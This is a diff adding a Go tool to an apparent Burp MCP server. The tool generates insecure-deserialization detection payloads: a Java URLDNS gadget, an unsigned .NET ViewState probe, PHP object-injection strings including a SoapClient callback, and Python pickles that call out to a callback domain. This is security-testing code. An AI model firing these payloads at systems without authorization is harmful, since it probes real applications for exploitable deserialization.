@@ -0,0 +1,326 @@
+package tools
+
+import (
+	"bytes"
+	"context"
+	"encoding/base64"
+	"encoding/binary"
+	"encoding/hex"
+	"fmt"
+	"net/url"
+	"slices"
+	"strings"
+
+	"github.com/modelcontextprotocol/go-sdk/mcp"
+)
+
+// Java serialization stream tokens.
+const (
+	javaMagic         = 0xaced
+	javaVersion       = 5
+	javaTCNull        = 0x70
+	javaTCReference   = 0x71
+	javaTCClassDesc   = 0x72
+	javaTCObject      = 0x73
+	javaTCString      = 0x74
+	javaTCBlockData   = 0x77
+	javaTCEndBlock    = 0x78
+	javaBaseHandle    = 0x7e0000
+	javaSCSerializeWM = 0x03 // SC_SERIALIZABLE | SC_WRITE_METHOD
+)
+
+// deserPlatforms are the platforms burp_deser_payload generates for.
+var deserPlatforms = []string{"java", "dotnet", "php", "python"}
+
+// javaStream writes a Java object serialization stream.
+type javaStream struct {
+	bytes.Buffer
+}
+
+func (j *javaStream) u16(v uint16) { binary.Write(j, binary.BigEndian, v) }
+func (j *javaStream) u32(v uint32) { binary.Write(j, binary.BigEndian, v) }
+func (j *javaStream) u64(v uint64) { binary.Write(j, binary.BigEndian, v) }
+
+// utf writes a length-prefixed string. Modified UTF-8 only differs from
+// UTF-8 for NUL and supplementary characters, which hostnames don't have.
+func (j *javaStream) utf(s string) {
+	j.u16(uint16(len(s)))
+	j.WriteString(s)
+}
+
+func (j *javaStream) str(s string) {
+	j.WriteByte(javaTCString)
+	j.utf(s)
+}
+
+func (j *javaStream) ref(handle uint32) {
+	j.WriteByte(javaTCReference)
+	j.u32(javaBaseHandle + handle)
+}
+
+// javaURLDNS builds the URLDNS gadget: a HashMap keyed by a java.net.URL
+// whose cached hashCode is -1, so deserializing it rehashes the key and
+// resolves host. It only triggers a DNS lookup and needs no library on the
+// target's classpath.
+func javaURLDNS(host string) []byte {
+	var j javaStream
+	j.u16(javaMagic)
+	j.u16(javaVersion)
+
+	// Handle 0: HashMap class descriptor; 1: the HashMap.
+	j.WriteByte(javaTCObject)
+	j.WriteByte(javaTCClassDesc)
+	j.utf("java.util.HashMap")
+	j.u64(0x0507dac1c31660d1)
+	j.WriteByte(javaSCSerializeWM)
+	j.u16(2)
+	j.WriteByte('F')
+	j.utf("loadFactor")
+	j.WriteByte('I')
+	j.utf("threshold")
+	j.WriteByte(javaTCEndBlock)
+	j.WriteByte(javaTCNull)
+	j.u32(0x3f400000) // loadFactor 0.75
+	j.u32(12)         // threshold
+	j.WriteByte(javaTCBlockData)
+	j.WriteByte(8)
+	j.u32(16) // buckets
+	j.u32(1)  // size
+
+	// Handle 2: URL class descriptor; 3: the field type string; 4: the URL.
+	j.WriteByte(javaTCObject)
+	j.WriteByte(javaTCClassDesc)
+	j.utf("java.net.URL")
+	j.u64(0x962537361afce472)
+	j.WriteByte(javaSCSerializeWM)
+	j.u16(7)
+	j.WriteByte('I')
+	j.utf("hashCode")
+	j.WriteByte('I')
+	j.utf("port")
+	for i, name := range []string{"authority", "file", "host", "protocol", "ref"} {
+		j.WriteByte('L')
+		j.utf(name)
+		if i == 0 {
+			j.str("Ljava/lang/String;")
+		} else {
+			j.ref(3)
+		}
+	}
+	j.WriteByte(javaTCEndBlock)
+	j.WriteByte(javaTCNull)
+	j.u32(0xffffffff) // hashCode -1
+	j.u32(0xffffffff) // port -1
+	j.str(host)       // authority, handle 5
+	j.str("")         // file
+	j.ref(5)          // host, the same string as authority
+	j.str("http")     // protocol
+	j.WriteByte(javaTCNull)
+	j.WriteByte(javaTCEndBlock)
+
+	j.str("http://" + host) // the map value
+	j.WriteByte(javaTCEndBlock)
+	return j.Bytes()
+}
+
+// javaStringObject serializes a lone java.lang.String, which any
+// readObject accepts: a reflection or error-message canary.
+func javaStringObject(s string) []byte {
+	var j javaStream
+	j.u16(javaMagic)
+	j.u16(javaVersion)
+	j.str(s)
+	return j.Bytes()
+}
+
+// dotnetViewState builds an unsigned LosFormatter ViewState holding
+// canary: Pair(Pair(canary, null), null). A page that renders without a
+// MAC validation error has EnableViewStateMac off.
+func dotnetViewState(canary string) []byte {
+	b := []byte{0xff, 0x01, 0x0f, 0x0f, 0x05}
+	n := len(canary)
+	for n >= 0x80 {
+		b = append(b, byte(n)|0x80)
+		n >>= 7
+	}
+	b = append(b, byte(n))
+	b = append(b, canary...)
+	return append(b, 0x64, 0x64)
+}
+
+// phpString is a PHP serialized string.
+func phpString(s string) string {
+	return fmt.Sprintf(`s:%d:"%s";`, len(s), s)
+}
+
+// phpObject is a PHP serialized object with string properties, in order.
+func phpObject(class string, props ...string) string {
+	var b strings.Builder
+	fmt.Fprintf(&b, `O:%d:"%s":%d:{`, len(class), class, len(props)/2)
+	for i := 0; i+1 < len(props); i += 2 {
+		b.WriteString(phpString(props[i]) + phpString(props[i+1]))
+	}
+	b.WriteString("}")
+	return b.String()
+}
+
+// pickleString is a protocol 0 pickle string literal.
+func pickleString(s string) string {
+	return "S'" + strings.ReplaceAll(strings.ReplaceAll(s, `\`, `\\`), `'`, `\'`) + "'\n"
+}
+
+// pickleCall is a protocol 0 pickle that calls module.name(arg) when loaded.
+func pickleCall(module, name, arg string) string {
+	return "c" + module + "\n" + name + "\n(" + pickleString(arg) + "tR."
+}
+
+// deserPayload is one generated payload before encoding.
+type deserPayload struct {
+	name, platform, format, description string
+	data                                []byte
+	binary                              bool
+	host                                string
+}
+
+// deserPayloads builds the payloads for the selected platforms. Callback
+// payloads get their own label subdomain of callback and are skipped when
+// callback is empty.
+func deserPayloads(token, callback string, platforms []string) []deserPayload {
+	var out []deserPayload
+	host := func() string {
+		return fmt.Sprintf("%s-%02d.%s", token, len(out), callback)
+	}
+	add := func(p deserPayload) { out = append(out, p) }
+	want := func(p string) bool { return len(platforms) == 0 || slices.Contains(platforms, p) }
+
+	if want("java") {
+		if callback != "" {
+			h := host()
+			add(deserPayload{"java-urldns", "java", "java-serialized",
+				"URLDNS gadget: ObjectInputStream.readObject resolves the host. JDK classes only, no code runs",
+				javaURLDNS(h), true, h})
+		}
+		add(deserPayload{"java-string", "java", "java-serialized",
+			"Serialized java.lang.String canary: reflected or logged if the stream is read; a ClassCastException or StreamCorruptedException in the response also confirms deserialization",
+			javaStringObject(token), true, ""})
+	}
+	if want("dotnet") {
+		add(deserPayload{"dotnet-viewstate-mac", "dotnet", "viewstate",
+			"Unsigned ViewState carrying the canary. Send as __VIEWSTATE; no 'Validation of viewstate MAC failed' error means MAC validation is off and ObjectStateFormatter gadgets would be accepted",
+			dotnetViewState(token), true, ""})
+	}
+	if want("php") {
+		add(deserPayload{"php-stdclass", "php", "php-serialized",
+			"stdClass with a canary property: harmless everywhere; the canary echoed back or a changed response shows unserialize() ran",
+			[]byte(phpObject("stdClass", "probe", token)), false, ""})
+		add(deserPayload{"php-incomplete-class", "php", "php-serialized",
+			"Object of an undefined class: becomes __PHP_Incomplete_Class, which often surfaces in errors or var_dump output",
+			[]byte(phpObject("BurpMcpProbe_"+token, "probe", token)), false, ""})
+		if callback != "" {
+			h := host()
+			add(deserPayload{"php-soapclient", "php", "php-serialized",
+				"SoapClient pointed at the callback: a POST to it when the application calls any method on the object (including __destruct chains that do)",
+				[]byte(phpObject("SoapClient", "uri", "http://"+h+"/", "location", "http://"+h+"/"+token)), false, h})
+		}
+	}
+	if want("python") {
+		add(deserPayload{"python-pickle-string", "python", "pickle",
+			"Protocol 0 pickle of the canary string: reflected if the application unpickles and echoes the value",
+			[]byte(pickleString(token) + "."), false, ""})
+		if callback != "" {
+			h := host()
+			add(deserPayload{"python-pickle-dns", "python", "pickle",
+				"Pickle that calls socket.gethostbyname on the callback host when loaded: a DNS lookup, nothing else",
+				[]byte(pickleCall("socket", "gethostbyname", h)), false, h})
+		}
+	}
+	return out
+}
+
+// DeserPayloadInput is the input for burp_deser_payload.
+type DeserPayloadInput struct {
+	Callback  string   `json:"callback,omitempty" jsonschema:"Callback domain (Collaborator or burp-mcp-server listen). Each DNS payload gets its own label subdomain. Without it only canary payloads are generated"`
+	Platforms []string `json:"platforms,omitempty" jsonschema:"Platforms to generate for: java, dotnet, php, python (default: all)"`
+}
+
+// DeserPayload is one encoded payload.
+type DeserPayload struct {
+	Name        string `json:"name"`
+	Platform    string `json:"platform"`
+	Format      string `json:"format"`
+	Description string `json:"description"`
+	// CallbackHost is the lookup that confirms this payload was
+	// deserialized.
+	CallbackHost string `json:"callbackHost,omitempty"`
+	// Raw is the payload itself, for text formats.
+	Raw        string `json:"raw,omitempty"`
+	Base64     string `json:"base64"`
+	URLEncoded string `json:"urlEncoded"`
+	Hex        string `json:"hex,omitempty"`
+}
+
+// DeserPayloadOutput is the output of burp_deser_payload.
+type DeserPayloadOutput struct {
+	Canary   string         `json:"canary"`
+	Payloads []DeserPayload `json:"payloads"`
+	Note     string         `json:"note,omitempty"`
+}
+
+func deserPayloadHandler(_ context.Context, _ *mcp.CallToolRequest, input DeserPayloadInput) (*mcp.CallToolResult, DeserPayloadOutput, error) {
+	callback := strings.Trim(strings.TrimSpace(input.Callback), ".")
+	if strings.Contains(callback, "://") {
+		u, err := url.Parse(callback)
+		if err != nil || u.Hostname() == "" {
+			return nil, DeserPayloadOutput{}, fmt.Errorf("invalid callback: %q", input.Callback)
+		}
+		callback = u.Hostname()
+	}
+	if strings.ContainsAny(callback, "/:@ ") {
+		return nil, DeserPayloadOutput{}, fmt.Errorf("callback must be a domain, got %q", input.Callback)
+	}
+	var platforms []string
+	for _, p := range input.Platforms {
+		p = strings.ToLower(p)
+		if p == ".net" {
+			p = "dotnet"
+		}
+		if !slices.Contains(deserPlatforms, p) {
+			return nil, DeserPayloadOutput{}, fmt.Errorf("unknown platform %q (want %s)", p, strings.Join(deserPlatforms, ", "))
+		}
+		platforms = append(platforms, p)
+	}
+
+	token := cacheToken()
+	out := DeserPayloadOutput{Canary: token, Payloads: []DeserPayload{}}
+	for _, p := range deserPayloads(token, callback, platforms) {
+		b64 := base64.StdEncoding.EncodeToString(p.data)
+		dp := DeserPayload{
+			Name: p.name, Platform: p.platform, Format: p.format, Description: p.description,
+			CallbackHost: p.host, Base64: b64,
+		}
+		if p.binary {
+			dp.URLEncoded = url.QueryEscape(b64)
+			dp.Hex = hex.EncodeToString(p.data)
+		} else {
+			dp.Raw = string(p.data)
+			dp.URLEncoded = url.QueryEscape(dp.Raw)
+		}
+		out.Payloads = append(out.Payloads, dp)
+	}
+	if callback == "" {
+		out.Note = "No callback given: only canary payloads were generated. Pass a Collaborator or listen domain for DNS-triggering ones."
+	} else {
+		out.Note = "Search callbacks for each payload's callbackHost (burp_get_callbacks contains=<label>, or Collaborator) after sending."
+	}
+	return nil, out, nil
+}
+
+// RegisterDeserPayloadTool registers the burp_deser_payload tool.
+func RegisterDeserPayloadTool(server *mcp.Server) {
+	addTool(server, &mcp.Tool{
+		Name: "burp_deser_payload",
+		Description: `Generate insecure-deserialization detection payloads, locally and as data only: Java URLDNS (DNS lookup on readObject, JDK classes only) and a serialized String canary, an unsigned .NET ViewState MAC probe, PHP object injection strings (stdClass canary, undefined class, SoapClient callback), and Python pickle canaries (string, and a socket.gethostbyname DNS lookup). ` +
+			`Each callback payload resolves its own label subdomain of the given callback domain, so a hit in Collaborator or burp_get_callbacks names the payload and format that was deserialized. ` +
+			`Returns {canary, payloads: [{name, platform, format, description, callbackHost, raw, base64, urlEncoded, hex}], note}.`,
+	}, deserPayloadHandler)
+}